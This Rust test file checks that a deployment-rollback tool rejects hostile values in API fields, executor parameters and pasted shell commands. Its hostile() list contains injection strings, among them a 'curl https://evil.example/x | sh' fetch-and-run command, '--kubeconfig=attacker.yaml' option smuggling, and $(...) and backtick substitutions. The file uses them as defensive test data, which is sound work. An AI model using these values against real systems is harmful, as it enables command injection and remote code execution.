//! Hostile values against every audience a value reaches: the CI callback refuses
//! them naming the field, executors refuse them before running anything, and the
//! commands people paste run, in a real shell, exactly the arguments they show.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command as Process;
use std::sync::Arc;
use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{Value, json};
use wiremock::MockServer;

use rollwarden::actions::Channels;
use rollwarden::actions::executor::{Command, ExecOutcome, Executor, MemoryJournal, RolloutUndo};
use rollwarden::clock::ManualClock;
use rollwarden::config::CommandConfig;
use rollwarden::domain::render::shell;
use rollwarden::domain::{RollbackPlan, Target, TargetRef};

use crate::executors::{
    StubHelm, UPGRADED, action_state, decision, dispatch, dispatch_params, helm_params, new_action,
    no_executors, record, worker,
};
use crate::on_both_backends;
use crate::support::{Backend, TestApp, WEBHOOK_TOKEN, assert_error, t0};

/// Values that fit no grammar: options, shell syntax, whitespace and control
/// characters, quotes, look-alikes of `-` and of letters, Slack and Markdown syntax,
/// an overlong value. (NUL is refused for a whole body before any field is read.)
fn hostile() -> Vec<String> {
    let mut values: Vec<String> = [
        "-",
        "-x",
        "--kubeconfig=attacker.yaml",
        "--",
        "checkout --kubeconfig=x",
        "1.5.0; curl https://evil.example/x | sh",
        "a;b",
        "a&&b",
        "a|b",
        "$(echo INJECTED)",
        "${IFS}",
        "`echo INJECTED`",
        "a\nb",
        "a\rb",
        "a\tb",
        "'quoted'",
        "\"quoted\"",
        "a b",
        "\u{2010}\u{2010}kubeconfig",
        "\u{2212}n",
        "ch\u{435}ckout",
        "a\u{200b}b",
        "<!channel>",
        "[x](https://evil.example)",
        "~root",
        "*",
        "#x",
        "",
    ]
    .iter()
    .map(|s| (*s).to_string())
    .collect();
    values.push("a".repeat(1025));
    values
}

// ------------------------------------------------------------------- the wire edge

async fn post_deploy(app: &TestApp, body: &Value) -> reqwest::Response {
    app.http
        .post(app.url("/api/v1/deploys"))
        .bearer_auth(WEBHOOK_TOKEN)
        .json(body)
        .send()
        .await
        .unwrap()
}

async fn ci_callbacks_with_hostile_values_get_400_naming_the_field(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ordinary = json!({
        "namespace": "prod", "name": "checkout", "revision": "2231", "status": "started",
        "environment": "production", "region": "eu-west-1", "version": "1.6.0",
        "image": "registry.example.com/shop/checkout:1.6.0", "commit": "9f1c2d3",
        "helm_release": "checkout", "started_at": "2026-08-22T13:55:00Z"
    });
    for key in [
        "cluster",
        "namespace",
        "name",
        "kind",
        "revision",
        "environment",
        "region",
        "version",
        "image",
        "commit",
        "helm_release",
    ] {
        for value in hostile() {
            if key == "cluster" && value.is_empty() {
                continue;
            }
            let mut body = ordinary.clone();
            body[key] = json!(value);
            let field = if key == "image" { "images[0]" } else { key };
            assert_error(
                post_deploy(&app, &body).await,
                StatusCode::BAD_REQUEST,
                "invalid_field",
                Some(field),
            )
            .await;
        }
    }
    let (_, listed) = app.get_json("/api/v1/deploys").await;
    assert_eq!(listed["items"], json!([]), "nothing was stored");
    let r = post_deploy(&app, &ordinary).await;
    assert_eq!(r.status(), StatusCode::CREATED);
}

// ------------------------------------------------------------------- the executors

/// A stub program that appends its arguments, NUL-terminated, to `argv.log`.
struct Recorder {
    dir: tempfile::TempDir,
}

impl Recorder {
    fn new(names: &[&str]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("argv.log");
        for name in names {
            let path = dir.path().join(name);
            std::fs::write(
                &path,
                format!(
                    "#!/bin/sh\n{{ printf '%s\\0' \"${{0##*/}}\" \"$@\"; printf '\\n'; }} >> '{}'\n",
                    log.display()
                ),
            )
            .unwrap();
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        Self { dir }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// Each call's argv (program name first), in order.
    fn calls(&self) -> Vec<Vec<String>> {
        std::fs::read_to_string(self.dir.path().join("argv.log"))
            .unwrap_or_default()
            .split_terminator("\0\n")
            .map(|call| call.split('\0').map(str::to_string).collect())
            .collect()
    }
}

/// One action parameter per template variable, all ordinary.
fn ordinary_params() -> Value {
    json!({
        "target": "default/prod/Deployment/checkout", "cluster": "default",
        "namespace": "prod", "kind": "Deployment", "name": "checkout",
        "region": "eu-west-1", "environment": "production", "suspect_deploy_id": 42,
        "suspect_revision": "2231", "rollback_revision": "2230",
        "kubernetes_revision": "2", "helm_release": "checkout", "helm_revision": "3",
        "helm_namespace": "prod", "cd_workflow": "cd-rollback.yml", "image_tag": "1.5.0",
        "image": "registry.example.com/shop/checkout:1.5.0"
    })
}

const VARIABLES: [&str; 17] = [
    "target",
    "cluster",
    "namespace",
    "kind",
    "name",
    "region",
    "environment",
    "suspect_deploy_id",
    "suspect_revision",
    "rollback_revision",
    "kubernetes_revision",
    "helm_release",
    "helm_revision",
    "helm_namespace",
    "cd_workflow",
    "image_tag",
    "image",
];

fn revert_command(program: &Path) -> Command {
    let mut argv = vec![program.display().to_string()];
    argv.extend(VARIABLES.iter().map(|v| format!("{{{{ {v} }}}}")));
    argv.push("--action={{ action_id }}".into());
    Command(CommandConfig {
        name: "revert".into(),
        argv,
        timeout_secs: 10,
    })
}

#[tokio::test]
async fn a_command_runs_ordinary_values_as_single_arguments() {
    let stub = Recorder::new(&["revert"]);
    let outcome = revert_command(&stub.path("revert"))
        .execute(
            &record("command:revert", ordinary_params()),
            false,
            &MemoryJournal::default(),
        )
        .await;
    assert!(matches!(outcome, ExecOutcome::Done { .. }), "{outcome:?}");
    let params = ordinary_params();
    let mut expected = vec!["revert".to_string()];
    expected.extend(VARIABLES.iter().map(|v| match &params[v] {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }));
    expected.push("--action=7".into());
    assert_eq!(stub.calls(), [expected]);
}

#[tokio::test]
async fn a_command_with_a_hostile_value_fails_and_runs_nothing() {
    let stub = Recorder::new(&["revert"]);
    let command = revert_command(&stub.path("revert"));
    for variable in VARIABLES {
        for value in hostile() {
            if variable == "cluster" && value.is_empty() {
                continue;
            }
            let mut params = ordinary_params();
            params[variable] = json!(value);
            for dry_run in [false, true] {
                let outcome = command
                    .execute(
                        &record("command:revert", params.clone()),
                        dry_run,
                        &MemoryJournal::default(),
                    )
                    .await;
                let ExecOutcome::Failed(error) = &outcome else {
                    panic!("{variable}={value:?}: {outcome:?}")
                };
                assert!(
                    error.contains(&format!("{variable} ")) && error.ends_with("nothing was run"),
                    "{variable}={value:?}: {error}"
                );
            }
        }
    }
    assert!(stub.calls().is_empty(), "ran {:?}", stub.calls());
}

#[tokio::test]
async fn helm_gets_its_values_after_the_end_of_options_and_never_a_hostile_one() {
    let helm = StubHelm::new(UPGRADED, 0, "");
    for param in ["helm_release", "helm_revision", "helm_namespace"] {
        for value in hostile() {
            if param == "helm_namespace" && value.is_empty() {
                continue; // none: the target's namespace
            }
            let mut params = helm_params();
            params[param] = json!(value);
            let outcome = helm
                .executor()
                .execute(
                    &record("helm_rollback", params),
                    false,
                    &MemoryJournal::default(),
                )
                .await;
            let ExecOutcome::Failed(error) = &outcome else {
                panic!("{param}={value:?}: {outcome:?}")
            };
            assert!(error.contains(param), "{param}={value:?}: {error}");
        }
    }
    assert!(helm.calls().is_empty(), "ran {:?}", helm.calls());
    let outcome = helm
        .executor()
        .execute(
            &record("helm_rollback", helm_params()),
            false,
            &MemoryJournal::default(),
        )
        .await;
    assert!(matches!(outcome, ExecOutcome::Done { .. }), "{outcome:?}");
    assert_eq!(
        helm.calls(),
        [
            "history -n prod --max 1 -o json -- checkout",
            "rollback -n prod --cleanup-on-fail --wait --timeout 120s -- checkout 2",
        ]
    );
}

#[tokio::test]
async fn a_workflow_dispatch_with_a_hostile_value_sends_nothing() {
    let github = MockServer::start().await;
    for param in ["cd_workflow", "environment", "image_tag"] {
        for value in hostile() {
            let mut params = dispatch_params();
            params[param] = json!(value);
            let outcome = dispatch(&github)
                .execute(
                    &record("workflow_dispatch", params),
                    false,
                    &MemoryJournal::default(),
                )
                .await;
            assert!(
                matches!(&outcome, ExecOutcome::Failed(e) if e.contains(param)),
                "{param}={value:?}: {outcome:?}"
            );
        }
    }
    assert!(github.received_requests().await.unwrap().is_empty());
}

#[tokio::test]
async fn a_rollout_undo_of_a_hostile_name_asks_nothing_of_the_api_server() {
    // Nothing listens there: a request would end in a transient error, not `Failed`.
    let config = kube::Config::new("http://127.0.0.1:9".parse().unwrap());
    let undo = RolloutUndo {
        client: kube::Client::try_from(config).unwrap(),
        timeout: Duration::from_secs(1),
        poll: Duration::from_millis(10),
    };
    for param in ["namespace", "name"] {
        for value in hostile() {
            let mut params =
                json!({"namespace": "prod", "name": "checkout", "kubernetes_revision": "2"});
            params[param] = json!(value);
            let outcome = undo
                .execute(
                    &record("rollout_undo", params),
                    false,
                    &MemoryJournal::default(),
                )
                .await;
            assert!(
                matches!(&outcome, ExecOutcome::Failed(e) if e.contains(param)),
                "{param}={value:?}: {outcome:?}"
            );
        }
    }
}

async fn the_worker_fails_an_action_with_a_hostile_value_and_says_why(backend: Backend) {
    let db = crate::support::TestStore::new(backend).await;
    let clock = Arc::new(ManualClock::new(t0()));
    let stub = Recorder::new(&["revert"]);
    let executors = no_executors(&db.store, &clock).with(
        "command:revert",
        Arc::new(revert_command(&stub.path("revert"))),
    );
    let w = worker(&db.store, &clock, executors, Channels::default(), "w");
    let d = decision(&db.store, "h").await;
    let mut params = ordinary_params();
    params["helm_release"] = json!("--kubeconfig=attacker.yaml");
    db.store
        .enqueue_action(&new_action(d, "command:revert", params), t0())
        .await
        .unwrap();
    w.step().await.unwrap();
    let a = action_state(&db.store, d).await;
    assert_eq!(a.state, "failed");
    let error = a.last_error.unwrap();
    assert!(
        error.contains("helm_release \"--kubeconfig=attacker.yaml\" is not a Helm release name")
            && error.ends_with("nothing was run"),
        "{error}"
    );
    assert!(stub.calls().is_empty());
}

// ------------------------------------------------------------- what people paste

/// The words `sh` (or `bash`) makes of `rendered`, with no program on the path:
/// anything a value smuggled in would fail loudly or print.
fn words_through(shell_program: &str, rendered: &str) -> Vec<String> {
    let out = Process::new(format!("/bin/{shell_program}"))
        .arg("-c")
        .arg(format!("printf '%s\\0' {rendered}"))
        .env_clear()
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert!(
        out.status.success() && out.stderr.is_empty(),
        "{shell_program} -c {rendered}: {out:?}"
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    stdout.split_terminator('\0').map(str::to_string).collect()
}

#[test]
fn a_rendered_command_is_exactly_its_arguments_to_a_real_shell() {
    let mut values = hostile();
    values.extend(
        [
            "'",
            "\\",
            "a'b\"c\\d",
            "$HOME",
            "!!",
            "\n",
            "a\\\nb",
            "it's $(id) `id` ${x} 'a' \"b\"",
            "=ls",
            "{a,b}",
            "a\u{0}b",
        ]
        .map(String::from),
    );
    for value in values {
        let argv = vec![
            "kubectl".to_string(),
            "-n".into(),
            value.clone(),
            format!("deployment/{value}"),
            format!("--to-revision={value}"),
        ];
        let rendered = shell::render(&argv);
        // A NUL cannot be an argument; the rendering shows it as U+FFFD.
        let expected: Vec<String> = argv.iter().map(|a| a.replace('\0', "\u{fffd}")).collect();
        for shell_program in ["sh", "bash"] {
            assert_eq!(
                words_through(shell_program, &rendered),
                expected,
                "{shell_program}: {rendered}"
            );
        }
    }
}

#[test]
fn pasting_the_recommended_commands_runs_exactly_them() {
    let stubs = Recorder::new(&["kubectl", "helm", "gh", "git"]);
    let ordinary = || RollbackPlan {
        kubernetes_revision: Some("6".into()),
        helm_release: Some("checkout".into()),
        helm_revision: Some("3".into()),
        helm_namespace: Some("shop".into()),
        environment: Some("production".into()),
        image_tag: Some("v2.2230".into()),
        cd_workflow: Some("cd-rollback.yml".into()),
        ..RollbackPlan::default()
    };
    let target = Target::discovered(TargetRef::deployment("prod-eu", "shop", "checkout"));
    type Set = fn(&mut RollbackPlan, String);
    let fields: [Set; 7] = [
        |p, v| p.kubernetes_revision = Some(v),
        |p, v| p.helm_release = Some(v),
        |p, v| p.helm_revision = Some(v),
        |p, v| p.helm_namespace = Some(v),
        |p, v| p.environment = Some(v),
        |p, v| p.image_tag = Some(v),
        |p, v| p.cd_workflow = Some(v),
    ];
    let mut cases = vec![ordinary()];
    for value in hostile() {
        for set in fields {
            let mut plan = ordinary();
            set(&mut plan, value.clone());
            cases.push(plan);
        }
    }
    for plan in cases {
        let commands = plan.commands(&target);
        let _ = std::fs::remove_file(stubs.dir.path().join("argv.log"));
        let out = Process::new("/bin/sh")
            .arg("-c")
            .arg(commands.join("\n"))
            .env_clear()
            .env("PATH", stubs.dir.path())
            .current_dir(stubs.dir.path())
            .output()
            .unwrap();
        assert!(
            out.status.success() && out.stdout.is_empty() && out.stderr.is_empty(),
            "{commands:?}: {out:?}"
        );
        // Each command that is shown ran once, with the words it shows; the others
        // are comments and ran nothing.
        let shown: Vec<Vec<String>> = commands
            .iter()
            .filter(|c| !c.starts_with('#'))
            .map(|c| c.split(' ').map(str::to_string).collect())
            .collect();
        assert_eq!(stubs.calls(), shown, "{commands:?}");
        if plan == ordinary() {
            assert_eq!(shown.len(), 4);
        }
    }
}

on_both_backends!(
    ci_callbacks_with_hostile_values_get_400_naming_the_field,
    the_worker_fails_an_action_with_a_hostile_value_and_says_why,
);
